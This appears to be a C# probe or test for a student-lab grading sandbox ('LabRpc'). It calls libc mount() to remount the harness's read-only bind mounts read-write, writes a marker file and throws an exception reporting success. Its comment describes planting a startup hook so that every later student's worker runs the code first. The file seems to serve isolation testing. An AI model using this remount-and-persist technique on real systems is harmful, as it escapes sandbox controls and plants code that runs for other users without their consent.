using System.Runtime.InteropServices;
using LabRpc;

namespace Students.NoDuplicateDetection;

// Remounts the read-only binds (the harness, the runtime) read-write and drops a startup hook into the harness's folder,
// so that every later worker, of any student and of any later class, runs its code first.
static class Attack
{
    [DllImport("libc", SetLastError = true)]
    static extern int mount(string? source, string target, string? type, ulong flags, string? data);

    const ulong Remount = 32, Bind = 4096;

    public static void Run(IRuntime runtime)
    {
        string harness = Path.GetDirectoryName(typeof(IRuntime).Assembly.Location)!;
        if (mount(null, harness, null, Remount | Bind, null) != 0)
            throw new InvalidOperationException($"remount of {harness} refused: errno {Marshal.GetLastPInvokeError()}");
        File.WriteAllText(Path.Combine(harness, "labrpc-startup-hook.txt"), "remounted");
        throw new InvalidOperationException($"remounted {harness} read-write and wrote into it");
    }
}
